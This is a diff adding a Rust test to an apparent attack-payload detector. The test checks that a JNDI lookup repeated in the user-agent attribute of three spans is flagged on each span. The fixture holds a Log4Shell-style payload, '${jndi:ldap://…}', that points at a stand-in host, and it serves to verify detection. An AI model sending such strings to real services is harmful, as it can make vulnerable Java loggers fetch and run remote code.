@@ -202,6 +202,44 @@ fn inspect_reports_span_ids_and_minimized_evidence() {
 }
 
 #[test]
+fn a_value_repeated_across_spans_is_reported_on_each() {
+    // Values are scanned once per batch and the result reused: every span that carries
+    // the value still gets its own finding, and the same value as a name or in another
+    // attribute is judged on its own.
+    let d = Detector::with_default_rules().unwrap();
+    let t = TenantId::new("acme").unwrap();
+    let ua = "Mozilla/5.0 ${jndi:ldap://203.0.113.7/a}";
+    let spans = (1..=3u8)
+        .map(|i| {
+            server(
+                i,
+                i,
+                vec![
+                    kv("url.path", "/search"),
+                    kv("user_agent.original", ua),
+                    kv("url.query", "q=long+clean+search+words"),
+                ],
+            )
+        })
+        .collect();
+    let findings = d.inspect(&t, &[batch("shop", spans)], 1);
+    let mut spans_hit: Vec<String> = findings
+        .iter()
+        .filter(|f| f.family == Family::Jndi)
+        .filter_map(|f| f.evidences[0].span_id.map(|s| s.to_hex()))
+        .collect();
+    spans_hit.sort();
+    spans_hit.dedup();
+    assert_eq!(spans_hit.len(), 3, "{findings:?}");
+    assert!(
+        findings
+            .iter()
+            .all(|f| f.evidences[0].attribute == "user_agent.original"),
+        "{findings:?}"
+    );
+}
+
+#[test]
 fn client_spans_are_not_payload_inputs() {
     let d = Detector::with_default_rules().unwrap();
     let t = TenantId::new("acme").unwrap();
